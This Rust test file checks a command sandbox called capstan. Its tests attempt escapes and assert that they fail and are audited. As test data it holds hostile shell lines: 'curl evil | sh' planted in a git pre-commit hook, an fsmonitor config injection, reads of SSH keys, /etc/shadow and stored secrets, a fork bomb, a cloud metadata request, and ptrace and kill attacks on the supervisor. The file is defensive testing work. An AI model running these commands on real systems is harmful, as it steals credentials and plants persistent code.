//! Native commands in the OS sandbox, through the real binary
//! (`capstan exec`): each test performs an escape and checks what the
//! attacker would have gained — the file outside, the secret, the
//! connection, the surviving process — and that the host recorded it.
//!
//! These tests run as root here: the sandbox must hold for root too.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support;

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Output;
use std::time::Duration;

use serde_json::Value;
use support::{Env, assert_exit, audit_records, stderr, stdout};
use tempfile::TempDir;

/// A test's folders: capstan's home, the user's home (with credentials in
/// it), the workspace and a sibling project.
struct Sandbox {
    env: Env,
    user_home: TempDir,
}

impl Sandbox {
    fn new() -> Self {
        let sandbox = Self {
            env: Env::new(),
            user_home: tempfile::tempdir().unwrap(),
        };
        let ssh = sandbox.user_home.path().join(".ssh");
        std::fs::create_dir_all(&ssh).unwrap();
        std::fs::write(ssh.join("id_rsa"), "SSH-PRIVATE-KEY-MARKER\n").unwrap();
        sandbox
    }

    fn ws(&self) -> PathBuf {
        self.env.ws_path()
    }

    fn capstan_home(&self) -> PathBuf {
        self.env.home.path().canonicalize().unwrap()
    }

    /// `capstan exec ARGS...` in the workspace, with the system PATH.
    fn exec(&self, args: &[&str]) -> std::process::Command {
        let mut cmd = self.env.capstan_std();
        cmd.env("HOME", self.user_home.path())
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .arg("exec")
            .args(args);
        cmd
    }

    fn run(&self, args: &[&str]) -> Output {
        self.exec(args).output().unwrap()
    }

    /// Runs a shell command line in the sandbox with `flags`.
    fn sh(&self, flags: &[&str], script: &str) -> Output {
        let mut args: Vec<&str> = flags.to_vec();
        args.extend(["--", "bash", "-c", script]);
        self.run(&args)
    }

    /// Writes the user's capstan config.
    fn config(&self, text: &str) {
        std::fs::write(self.env.home.path().join("config.toml"), text).unwrap();
    }

    /// The audit records of kind `kind`.
    fn audit(&self, kind: &str) -> Vec<Value> {
        audit_records(&self.env)
            .into_iter()
            .filter(|r| r["kind"] == kind)
            .collect()
    }
}

fn combined(out: &Output) -> String {
    format!("{}{}", stdout(out), stderr(out))
}

/// Processes on this machine whose command line contains `needle`.
fn processes_running(needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(needle) {
            found.push(cmdline);
        }
    }
    found
}

/// Waits (a bounded while) for processes matching `needle` to be gone, and
/// returns those left.
fn left_over(needle: &str) -> Vec<String> {
    for _ in 0..50 {
        if processes_running(needle).is_empty() {
            return Vec::new();
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    processes_running(needle)
}

// ------------------------------------------------------------------ files

#[test]
fn writes_outside_the_workspace_are_refused_even_when_it_is_writable() {
    let sb = Sandbox::new();
    let outside = sb.env.outside.path().canonicalize().unwrap();
    // A link planted in the workspace, pointing out of it.
    std::os::unix::fs::symlink(&outside, sb.ws().join("planted")).unwrap();
    let script = format!(
        "echo a > {abs}/absolute; echo b > {dotdot}; echo c > planted/through-link; echo d > inside.txt",
        abs = outside.display(),
        dotdot = sb.env.dotdot_outside("dotdot"),
    );
    let out = sb.sh(&["--allow-write"], &script);
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        0,
        "{}",
        combined(&out)
    );
    assert_eq!(sb.env.read("inside.txt"), "d\n");
    // The command's output (its stderr included) is capstan's stdout.
    assert_eq!(
        stdout(&out).matches("Permission denied").count(),
        3,
        "{}",
        combined(&out)
    );
    let runs = sb.audit("command_run");
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0]["plugin"], "exec");
    assert_eq!(runs[0]["write"], true);
    assert_eq!(runs[0]["command"], format!("bash -c '{script}'"));
}

#[test]
fn credentials_capstans_data_and_other_projects_are_unreadable() {
    let sb = Sandbox::new();
    let home = sb.capstan_home();
    // capstan's lockfile, a transcript and its settings with a secret.
    std::fs::create_dir_all(home.join("plugins")).unwrap();
    std::fs::write(home.join("plugins/capstan.lock"), "LOCKFILE-MARKER").unwrap();
    std::fs::create_dir_all(home.join("sessions")).unwrap();
    std::fs::write(home.join("sessions/s.jsonl"), "TRANSCRIPT-MARKER").unwrap();
    sb.config("[secrets]\nGITHUB_TOKEN = \"CONFIG-SECRET-MARKER\"\n");
    // A first command, so the audit log exists.
    assert_exit(&sb.run(&["--", "true"]), 0);
    let audit_log = home.join("audit/audit.jsonl");
    assert!(audit_log.is_file());
    sb.env.write_outside("other-project.txt", "SIBLING-MARKER");
    let targets = [
        sb.user_home.path().join(".ssh/id_rsa"),
        home.join("plugins/capstan.lock"),
        home.join("sessions/s.jsonl"),
        home.join("config.toml"),
        audit_log,
        sb.env.outside.path().join("other-project.txt"),
    ];
    let mut script = String::new();
    for target in &targets {
        script.push_str(&format!("cat {}; ", target.display()));
    }
    script.push_str(&format!(
        "cat {}; ls {}; ls ..",
        sb.env.dotdot_outside("other-project.txt"),
        sb.user_home.path().display()
    ));
    let out = sb.sh(&[], &script);
    let text = combined(&out);
    for marker in [
        "SSH-PRIVATE-KEY",
        "LOCKFILE-MARKER",
        "TRANSCRIPT-MARKER",
        "CONFIG-SECRET-MARKER",
        "\"kind\"",
        "SIBLING-MARKER",
    ] {
        assert!(!text.contains(marker), "{marker} leaked:\n{text}");
    }
    assert_eq!(text.matches("Permission denied").count(), 9, "{text}");
}

#[test]
fn a_read_only_run_cannot_write_and_says_which_capability_was_missing() {
    let sb = Sandbox::new();
    sb.env.write("kept.txt", "original\n");
    let out = sb.sh(&[], "echo changed > kept.txt; touch new.txt");
    assert_ne!(out.status.code(), Some(0));
    assert_eq!(sb.env.read("kept.txt"), "original\n");
    assert!(!sb.ws().join("new.txt").exists());
    assert!(
        stderr(&out).contains("needs: write the workspace (--allow-write)"),
        "{}",
        stderr(&out)
    );
    let out = sb.sh(&["--allow-write"], "echo changed > kept.txt; touch new.txt");
    assert_exit(&out, 0);
    assert_eq!(sb.env.read("kept.txt"), "changed\n");
    assert!(sb.ws().join("new.txt").exists());
}

#[test]
fn planted_code_paths_stay_read_only_under_a_write_grant() {
    let sb = Sandbox::new();
    sb.env.write(".git/config", "[core]\n");
    sb.env.write(".git/hooks/README", "");
    sb.env.write(".claude/settings.json", "{}");
    let out = sb.sh(
        &["--allow-write"],
        "echo fine > src.txt; \
         echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
         echo '{\"hooks\":{}}' > .claude/settings.json",
    );
    assert!(!sb.ws().join(".git/hooks/pre-commit").exists());
    assert_eq!(sb.env.read(".git/config"), "[core]\n");
    assert_eq!(sb.env.read(".claude/settings.json"), "{}");
    assert_eq!(sb.env.read("src.txt"), "fine\n");
    assert!(
        stdout(&out).contains("Read-only file system"),
        "{}",
        combined(&out)
    );
    assert!(
        stderr(&out).contains("needs: write a protected path such as .git"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_symlink_planted_outside_cannot_widen_a_write_grant() {
    let sb = Sandbox::new();
    let outside = sb.env.outside.path().canonicalize().unwrap();
    let out = sb.sh(
        &["--allow-write"],
        &format!(
            "ln -s {} escape && echo x > escape/made-by-command",
            outside.display()
        ),
    );
    assert_ne!(out.status.code(), Some(0));
    assert!(!outside.join("made-by-command").exists());
}

// ------------------------------------------------------------ environment

#[test]
fn the_environment_holds_no_key_or_secret() {
    let sb = Sandbox::new();
    let out = sb
        .exec(&["--", "env"])
        .env("ANTHROPIC_API_KEY", "sk-ant-SECRET")
        .env("OPENAI_API_KEY", "sk-SECRET")
        .env("GITHUB_TOKEN", "ghp_SECRET")
        .env("CAPSTAN_ANYTHING", "SECRET")
        .output()
        .unwrap();
    assert_exit(&out, 0);
    let env = stdout(&out);
    assert!(!env.contains("SECRET"), "{env}");
    assert!(!env.contains("CAPSTAN"), "{env}");
    let names: Vec<&str> = env
        .lines()
        .filter_map(|l| l.split_once('=').map(|(k, _)| k))
        .collect();
    for name in &names {
        assert!(
            [
                "PATH",
                "HOME",
                "LANG",
                "TERM",
                "TMPDIR",
                "PWD",
                "SHLVL",
                "_",
                // capstan's proxy, inside the command's own namespace.
                "HTTP_PROXY",
                "HTTPS_PROXY",
                "ALL_PROXY",
                "http_proxy",
                "https_proxy",
                "all_proxy",
            ]
            .contains(name),
            "unexpected variable {name}:\n{env}"
        );
    }
    assert!(names.contains(&"TMPDIR"));
    assert!(env.contains("HTTPS_PROXY=http://127.0.0.1:3128\n"), "{env}");
}

// ---------------------------------------------------------------- network

#[test]
fn tcp_and_udp_to_a_local_listener_never_arrive() {
    let sb = Sandbox::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let script = format!(
        "echo hi > /dev/tcp/127.0.0.1/{tcp}; echo tcp=$?; echo hi > /dev/udp/127.0.0.1/{udp}; echo udp=$?",
        tcp = tcp.local_addr().unwrap().port(),
        udp = udp.local_addr().unwrap().port(),
    );
    let out = sb.sh(&[], &script);
    std::thread::sleep(Duration::from_millis(100));
    assert!(tcp.accept().is_err(), "the TCP listener got a connection");
    let mut buf = [0u8; 16];
    assert!(udp.recv(&mut buf).is_err(), "the UDP socket got a datagram");
    assert!(stdout(&out).contains("tcp=1"), "{}", combined(&out));
}

#[test]
fn a_name_lookup_fails_and_the_need_for_network_is_named() {
    let sb = Sandbox::new();
    let out = sb.sh(
        &[],
        // A client that ignores the proxy variables finds no network at all.
        "getent hosts example.com; echo getent=$?; curl -sS --noproxy '*' https://example.com",
    );
    assert!(stdout(&out).contains("getent=2"), "{}", combined(&out));
    assert!(
        stderr(&out).contains("needs: the network (--allow-net ORIGIN"),
        "{}",
        stderr(&out)
    );
}

/// A one-request-per-connection HTTP server on 127.0.0.1 counting the
/// connections it accepts.
struct LocalServer {
    port: u16,
    accepted: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl LocalServer {
    fn start(body: &'static str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let accepted = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = accepted.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = std::io::Write::write_all(&mut stream, reply.as_bytes());
            }
        });
        Self { port, accepted }
    }

    fn accepted(&self) -> usize {
        self.accepted.load(std::sync::atomic::Ordering::SeqCst)
    }
}

// The proxy applies grants::net, which refuses loopback addresses unless a
// grant names the address itself: the granted origin here is such a grant
// (http://127.0.0.1:PORT), so the whole path — proxy listener inside the
// namespace, policy, host-side connection — is the real one.
#[test]
fn a_granted_origin_is_reached_through_the_proxy_and_nothing_else() {
    let sb = Sandbox::new();
    let granted = LocalServer::start("hello from the granted origin");
    let other = LocalServer::start("you should not see this");
    let origin = format!("http://127.0.0.1:{}", granted.port);
    let script = format!(
        "curl -sS http://127.0.0.1:{g}/; echo; \
         curl -sS http://127.0.0.1:{o}/; echo; \
         curl -sS --noproxy '*' http://127.0.0.1:{g}/; echo direct=$?; \
         curl -sS http://localhost:{g}/; echo",
        g = granted.port,
        o = other.port
    );
    let out = sb.sh(&["--allow-net", &origin], &script);
    let text = stdout(&out);
    assert!(
        text.contains("hello from the granted origin"),
        "{}",
        combined(&out)
    );
    assert!(!text.contains("you should not see this"), "{text}");
    assert!(text.contains("direct=7"), "{}", combined(&out));
    // One connection: the proxied request. Not the direct one, not the one
    // by name (localhost resolves to loopback, which the grant by address
    // does not cover for a name), not the ungranted port.
    assert_eq!(granted.accepted(), 1);
    assert_eq!(other.accepted(), 0);
    let refused = sb.audit("http_refused");
    let urls: Vec<&str> = refused.iter().map(|r| r["url"].as_str().unwrap()).collect();
    assert!(
        urls.contains(&format!("http://127.0.0.1:{}", other.port).as_str()),
        "{refused:?}"
    );
    assert!(
        urls.contains(&format!("http://localhost:{}", granted.port).as_str()),
        "{refused:?}"
    );
    assert!(
        stderr(&out).contains("capstan: refused"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn private_and_metadata_addresses_are_refused_even_by_name() {
    let sb = Sandbox::new();
    let out = sb.sh(
        &["--allow-net", "http://localhost:9", "--allow-net", "http://*.example.com"],
        "curl -sS http://localhost:9/; echo; curl -sS http://169.254.169.254/latest/meta-data/; echo",
    );
    let text = stdout(&out);
    assert!(text.contains("a loopback address"), "{}", combined(&out));
    assert!(
        text.contains("http://169.254.169.254 is not granted"),
        "{text}"
    );
    assert_eq!(sb.audit("http_refused").len(), 2);
    assert_eq!(sb.audit("http_sent").len(), 0);
}

// -------------------------------------------------------------- processes

#[test]
fn a_fork_bomb_is_contained() {
    let _load = support::load::loads_the_machine();
    let sb = Sandbox::new();
    sb.env.write(
        "count.py",
        "import os, time\nn = 0\ntry:\n    while n < 5000:\n        if os.fork() == 0:\n            time.sleep(1240.5)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n    print('stopped after', n)\n",
    );
    let out = sb.run(&["--", "python3", "count.py"]);
    assert_exit(&out, 0);
    let text = stdout(&out);
    let count: usize = text
        .trim()
        .strip_prefix("stopped after ")
        .unwrap_or_else(|| panic!("{}", combined(&out)))
        .parse()
        .unwrap();
    assert!(count < 1100, "{count} processes");
    assert_eq!(left_over("1240.5"), Vec::<String>::new());
    // The classic one, kept alive by its first process until the timeout.
    let out = sb.sh(&["--timeout", "3s"], ":(){ :|:& };:; sleep 1241.5");
    assert_exit(&out, 124);
    assert_eq!(left_over("1241.5"), Vec::<String>::new());
}

#[test]
fn processes_that_leave_the_session_die_with_the_command() {
    let sb = Sandbox::new();
    let out = sb.sh(
        &[],
        "setsid sleep 1242.5 & (setsid sh -c 'sleep 1243.5 &' &); nohup sleep 1244.5 >/dev/null 2>&1 & echo started",
    );
    assert_exit(&out, 0);
    assert!(stdout(&out).contains("started"));
    for needle in ["1242.5", "1243.5", "1244.5"] {
        assert_eq!(left_over(needle), Vec::<String>::new(), "{needle}");
    }
}

#[test]
fn a_timeout_kills_the_whole_tree() {
    let sb = Sandbox::new();
    let out = sb.sh(&["--timeout", "1s"], "setsid sleep 1245.5 & sleep 1246.5");
    assert_exit(&out, 124);
    assert!(stderr(&out).contains("ran out of time"), "{}", stderr(&out));
    assert_eq!(left_over("1245.5"), Vec::<String>::new());
    assert_eq!(left_over("1246.5"), Vec::<String>::new());
    let runs = sb.audit("command_run");
    assert_eq!(runs[0]["ending"], "timed out");
}

#[test]
fn a_command_that_closes_its_output_still_meets_its_deadline() {
    let sb = Sandbox::new();
    let out = sb.sh(
        &["--timeout", "1s"],
        "exec >/dev/null 2>&1; setsid sleep 1249.5 & sleep 1250.5",
    );
    assert_exit(&out, 124);
    assert_eq!(left_over("1249.5"), Vec::<String>::new());
    assert_eq!(left_over("1250.5"), Vec::<String>::new());
}

#[test]
fn sandbox_off_is_loud_and_audited() {
    let sb = Sandbox::new();
    sb.config("[exec]\nsandbox = \"off\"\n");
    let out = sb.sh(&[], "echo ran");
    assert_exit(&out, 0);
    assert!(stderr(&out).contains("UNSANDBOXED"), "{}", stderr(&out));
    assert_eq!(stdout(&out), "ran\n");
    let runs = sb.audit("command_run");
    assert_eq!(runs[0]["sandboxed"], false);
}

#[test]
fn an_output_flood_is_capped_head_and_tail() {
    let sb = Sandbox::new();
    let out = sb.run(&[
        "--json",
        "--",
        "bash",
        "-c",
        "echo FIRST; head -c 20000000 /dev/zero | tr '\\0' a; echo; echo LAST",
    ]);
    assert_exit(&out, 0);
    let value: Value = serde_json::from_str(&stdout(&out)).unwrap();
    let text = value["output"].as_str().unwrap();
    assert!(text.starts_with("FIRST\n"));
    assert!(text.ends_with("\nLAST\n"));
    assert!(text.contains("bytes of output left out"));
    assert!(text.len() < 40_000, "{} bytes returned", text.len());
    assert_eq!(value["output_bytes"], 6 + 20_000_000 + 1 + 5);
}

#[test]
fn a_setuid_binary_gains_nothing() {
    let sb = Sandbox::new();
    // A setuid-root copy of cat: under no_new_privs, with an empty bounding
    // set, it starts with no capability at all, even for root.
    let copy = sb.ws().join("suid-cat");
    std::fs::copy("/usr/bin/cat", &copy).unwrap();
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let out = sb.run(&["--", "./suid-cat", "/proc/self/status"]);
    assert_exit(&out, 0);
    let status = stdout(&out);
    for line in [
        "CapPrm:\t0000000000000000",
        "CapEff:\t0000000000000000",
        "CapBnd:\t0000000000000000",
        "NoNewPrivs:\t1",
        "Seccomp:\t2",
    ] {
        assert!(status.contains(line), "{line} missing:\n{status}");
    }
    // And what root could otherwise read is not there.
    let out = sb.sh(&[], "./suid-cat /etc/shadow");
    assert_ne!(out.status.code(), Some(0));
    assert!(!stdout(&out).contains("root:"));
}

#[test]
fn capstan_cannot_be_killed_or_traced_from_the_sandbox() {
    let sb = Sandbox::new();
    // The command learns capstan's pid from a file the test writes once
    // capstan runs, then tries to kill and to trace it.
    let script = "while [ ! -s pid ]; do sleep 0.05; done; p=$(cat pid); \
        kill -9 $p; echo kill=$?; kill -9 -1; echo killall=$?; \
        python3 -c \"import ctypes,sys; print('ptrace', ctypes.CDLL(None).ptrace(16, int(sys.argv[1]), 0, 0))\" $p; \
        cat /proc/$p/environ; echo environ=$?";
    let mut child = sb
        .exec(&["--timeout", "20s", "--", "bash", "-c", script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::fs::write(sb.ws().join("pid"), child.id().to_string()).unwrap();
    let mut text = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{text}");
    assert!(text.contains("kill=1"), "{text}");
    assert!(text.contains("killall=1"), "{text}");
    assert!(text.contains("ptrace -1"), "{text}");
    assert!(text.contains("environ=1"), "{text}");
    assert_eq!(sb.audit("command_run").len(), 1);
}

/// The command's first process is started straight into its namespaces,
/// sharing capstan's memory until it `exec`s (capstan's thread waits):
/// nothing of capstan's may come through. It holds no descriptor but its
/// three streams, no signal blocked, no capability; `no_new_privs` and
/// seccomp hold; a signal a process sends itself ends it as anywhere.
#[test]
fn the_command_starts_with_nothing_of_capstans_but_its_streams() {
    let sb = Sandbox::new();
    let out = sb.sh(
        &[],
        "ls /proc/self/fd | tr '\\n' ' '; echo; \
         grep -E '^(SigBlk|CapEff|CapPrm|CapInh|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status",
    );
    assert_exit(&out, 0);
    let text = stdout(&out);
    // bash's 0, 1, 2, and the folder `ls` lists.
    assert_eq!(text.lines().next(), Some("0 1 2 3 "), "{text}");
    for line in [
        "SigBlk:\t0000000000000000",
        "CapEff:\t0000000000000000",
        "CapPrm:\t0000000000000000",
        "CapInh:\t0000000000000000",
        "CapAmb:\t0000000000000000",
        "NoNewPrivs:\t1",
        "Seccomp:\t2",
    ] {
        assert!(text.lines().any(|l| l == line), "{line}: {text}");
    }
    // Its first process is the namespace's init, which the kernel shields
    // from its own signals: a child's.
    let out = sb.sh(&[], "sh -c 'kill -TERM $$; echo survived'; echo code=$?");
    assert_exit(&out, 0);
    let text = stdout(&out);
    assert!(text.ends_with("code=143\n"), "{text}");
    assert!(!text.contains("survived"), "{text}");
}

// ------------------------------------------------------ real work, audit

#[test]
fn a_sample_projects_tests_pass_with_the_workspace_writable() {
    let sb = Sandbox::new();
    sb.env
        .write("calc/__init__.py", "def add(a, b):\n    return a + b\n");
    sb.env.write("tests/__init__.py", "");
    sb.env.write(
        "tests/test_calc.py",
        "import tempfile, unittest\nfrom calc import add\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n\n    def test_temp(self):\n        with tempfile.NamedTemporaryFile() as f:\n            f.write(b'x')\n",
    );
    let out = sb.run(&[
        "--allow-write",
        "--",
        "python3",
        "-m",
        "unittest",
        "discover",
        "-s",
        "tests",
        "-t",
        ".",
    ]);
    assert_exit(&out, 0);
    assert!(stdout(&out).contains("Ran 2 tests"), "{}", combined(&out));
    assert!(stdout(&out).contains("\nOK"), "{}", combined(&out));
    assert!(sb.ws().join("calc/__pycache__").is_dir());
}

#[test]
fn the_exit_code_passes_through_and_refusals_are_audited() {
    let sb = Sandbox::new();
    assert_exit(&sb.sh(&[], "exit 42"), 42);
    let out = sb.run(&["--", "/no/such/program"]);
    assert_exit(&out, 1);
    assert!(
        stderr(&out).contains("cannot run `/no/such/program`"),
        "{}",
        stderr(&out)
    );
    let refused = sb.audit("command_refused");
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0]["command"], "/no/such/program");
    let runs = sb.audit("command_run");
    assert_eq!(runs[0]["exit_code"], 42);
    assert_eq!(runs[0]["cwd"], sb.ws().display().to_string());
    assert!(runs[0]["duration_ms"].is_u64());
}

#[test]
fn a_project_config_cannot_widen_what_commands_reach() {
    let sb = Sandbox::new();
    sb.env.write(
        ".capstan/config.toml",
        "[exec]\nread = [\"~\"]\nnet = [\"https://example.com\"]\n",
    );
    let out = sb.sh(
        &[],
        &format!("cat {}/.ssh/id_rsa", sb.user_home.path().display()),
    );
    assert!(!stdout(&out).contains("SSH-PRIVATE-KEY"));
    assert!(stderr(&out).contains("ignored [exec]"), "{}", stderr(&out));
}

#[test]
fn an_exec_folder_reaching_credentials_is_refused() {
    let sb = Sandbox::new();
    sb.config("[exec]\nread = [\"~\"]\n");
    let out = sb.run(&["--", "true"]);
    assert_exit(&out, 1);
    assert!(stderr(&out).contains(".ssh"), "{}", stderr(&out));
}

// ------------------------------------- without namespaces (no user namespaces)

/// `Sandbox::exec` with no namespaces: by `[exec] namespaces = "off"`.
fn without_namespaces() -> Sandbox {
    let sb = Sandbox::new();
    sb.config("[exec]\nnamespaces = \"off\"\n");
    sb
}

#[test]
fn without_namespaces_files_outside_and_credentials_stay_out_of_reach() {
    let sb = without_namespaces();
    let outside = sb.env.outside.path().canonicalize().unwrap();
    std::os::unix::fs::symlink(&outside, sb.ws().join("planted")).unwrap();
    sb.env.write_outside("other-project.txt", "SIBLING-MARKER");
    let script = format!(
        "echo a > {abs}/absolute; echo b > {dotdot}; echo c > planted/through-link; echo d > inside.txt; \
         cat {ssh}; cat {sibling}; cat {home}/config.toml; ls /proc/1; echo end",
        abs = outside.display(),
        dotdot = sb.env.dotdot_outside("dotdot"),
        ssh = sb.user_home.path().join(".ssh/id_rsa").display(),
        sibling = outside.join("other-project.txt").display(),
        home = sb.capstan_home().display(),
    );
    let out = sb.sh(&["--allow-write"], &script);
    let text = combined(&out);
    assert!(text.contains("end"), "{text}");
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        1,
        "only the sibling project's file: {text}"
    );
    assert_eq!(sb.env.read("inside.txt"), "d\n");
    assert!(!text.contains("SSH-PRIVATE-KEY"), "{text}");
    assert!(!text.contains("SIBLING-MARKER"), "{text}");
    assert_eq!(text.matches("Permission denied").count(), 7, "{text}");
    // A read-only run cannot write the workspace.
    let out = sb.sh(&[], "echo changed > inside.txt");
    assert_ne!(out.status.code(), Some(0));
    assert_eq!(sb.env.read("inside.txt"), "d\n");
}

#[test]
fn without_namespaces_protected_paths_stay_read_only_under_a_write_grant() {
    let sb = without_namespaces();
    sb.env.write(".git/config", "[core]\n");
    sb.env.write(".git/hooks/README", "");
    sb.env.write("src/main.txt", "old\n");
    sb.env.write("top.txt", "old\n");
    let out = sb.sh(
        &["--allow-write"],
        "echo new > src/main.txt; echo new > top.txt; mkdir src/made; \
         echo 'curl evil | sh' > .git/hooks/pre-commit; \
         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
         mv .git .git-moved; rm -rf .git; echo end",
    );
    let text = combined(&out);
    assert!(text.contains("end"), "{text}");
    assert_eq!(sb.env.read("src/main.txt"), "new\n");
    assert_eq!(sb.env.read("top.txt"), "new\n");
    assert!(sb.ws().join("src/made").is_dir(), "{text}");
    assert!(!sb.ws().join(".git/hooks/pre-commit").exists(), "{text}");
    assert_eq!(sb.env.read(".git/config"), "[core]\n");
    assert!(sb.ws().join(".git/hooks/README").exists(), "{text}");
}

#[test]
fn without_namespaces_the_network_is_off_and_a_grant_is_refused_saying_why() {
    let sb = without_namespaces();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let script = format!(
        "echo hi > /dev/tcp/127.0.0.1/{tcp}; echo tcp=$?; echo hi > /dev/udp/127.0.0.1/{udp}; echo udp=$?; \
         python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0capstan-test')\"; echo unix=$?",
        tcp = tcp.local_addr().unwrap().port(),
        udp = udp.local_addr().unwrap().port(),
    );
    let out = sb.sh(&[], &script);
    std::thread::sleep(Duration::from_millis(100));
    assert!(tcp.accept().is_err(), "the TCP listener got a connection");
    let mut buf = [0u8; 16];
    assert!(udp.recv(&mut buf).is_err(), "the UDP socket got a datagram");
    let text = stdout(&out);
    for refused in ["tcp=1", "udp=1", "unix=1"] {
        assert!(text.contains(refused), "{refused}: {}", combined(&out));
    }
    let granted = LocalServer::start("you should not see this");
    let origin = format!("http://127.0.0.1:{}", granted.port);
    let out = sb.sh(&["--allow-net", &origin], &format!("curl -sS {origin}/"));
    assert_exit(&out, 1);
    assert!(!stdout(&out).contains("you should not see this"));
    assert_eq!(granted.accepted(), 0);
    let message = stderr(&out);
    assert!(
        message.contains("network for commands is off")
            && message.contains("namespaces = \"off\"")
            && message.contains("only way out is capstan's proxy"),
        "{message}"
    );
    assert_eq!(sb.audit("command_refused").len(), 1);
}

#[test]
fn without_namespaces_no_process_outlives_its_command() {
    let sb = without_namespaces();
    let out = sb.sh(
        &[],
        "setsid sleep 1252.5 & (setsid sh -c 'sleep 1253.5 &' &); nohup sleep 1254.5 >/dev/null 2>&1 & echo started",
    );
    assert_exit(&out, 0);
    assert!(stdout(&out).contains("started"));
    for needle in ["1252.5", "1253.5", "1254.5"] {
        assert_eq!(left_over(needle), Vec::<String>::new(), "{needle}");
    }
    let out = sb.sh(
        &["--timeout", "1s"],
        "setsid sleep 1255.5 & (setsid sh -c 'sleep 1256.5 &' &); sleep 1257.5",
    );
    assert_exit(&out, 124);
    for needle in ["1255.5", "1256.5", "1257.5"] {
        assert_eq!(left_over(needle), Vec::<String>::new(), "{needle}");
    }
    assert_eq!(sb.audit("command_run")[1]["ending"], "timed out");
}

#[test]
fn without_namespaces_capstan_cannot_be_killed_or_traced() {
    let sb = without_namespaces();
    let script = "while [ ! -s pid ]; do sleep 0.05; done; p=$(cat pid); \
        kill -9 $p; echo kill=$?; kill -9 $PPID; echo keeper=$?; \
        python3 -c \"import ctypes,sys; print('ptrace', ctypes.CDLL(None).ptrace(16, int(sys.argv[1]), 0, 0))\" $p; \
        cat /proc/$p/environ; echo environ=$?";
    let mut child = sb
        .exec(&["--timeout", "20s", "--", "bash", "-c", script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::fs::write(sb.ws().join("pid"), child.id().to_string()).unwrap();
    let mut text = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{text}");
    assert!(text.contains("kill=1"), "{text}");
    assert!(text.contains("keeper=1"), "{text}");
    assert!(text.contains("ptrace -1"), "{text}");
    assert!(text.contains("environ=1"), "{text}");
}

/// Without user namespaces on the system (here: a user namespace whose
/// `max_user_namespaces` is 0, so none can be made below it), commands
/// still run, confined, with the network off, and a grant says why.
#[test]
fn a_system_without_user_namespaces_runs_commands_with_the_network_off() {
    let sb = Sandbox::new();
    let capstan = env!("CARGO_BIN_EXE_capstan");
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let script = format!(
        "echo 0 > /proc/sys/user/max_user_namespaces || exit 99; \
         {capstan} exec -- bash -c 'cat {ssh}; echo hi > /dev/tcp/127.0.0.1/{port}; echo tcp=$?; echo ran'; \
         {capstan} exec --allow-net https://example.com -- true",
        ssh = sb.user_home.path().join(".ssh/id_rsa").display(),
        port = tcp.local_addr().unwrap().port(),
    );
    let mut unshare = std::process::Command::new("unshare");
    unshare
        .args(["--user", "--map-root-user", "--", "sh", "-c", &script])
        .current_dir(sb.ws())
        .env("CAPSTAN_HOME", sb.env.home.path())
        .env("HOME", sb.user_home.path())
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env_remove("XDG_DATA_HOME")
        .env_remove("XDG_CACHE_HOME");
    let out = unshare.output().unwrap();
    let text = combined(&out);
    assert!(text.contains("ran"), "{text}");
    assert!(text.contains("tcp=1"), "{text}");
    assert!(!text.contains("SSH-PRIVATE-KEY"), "{text}");
    assert!(tcp.accept().is_err(), "the TCP listener got a connection");
    assert!(
        text.contains(
            "network for commands is off: this system does not let capstan create user namespaces"
        ),
        "{text}"
    );
}
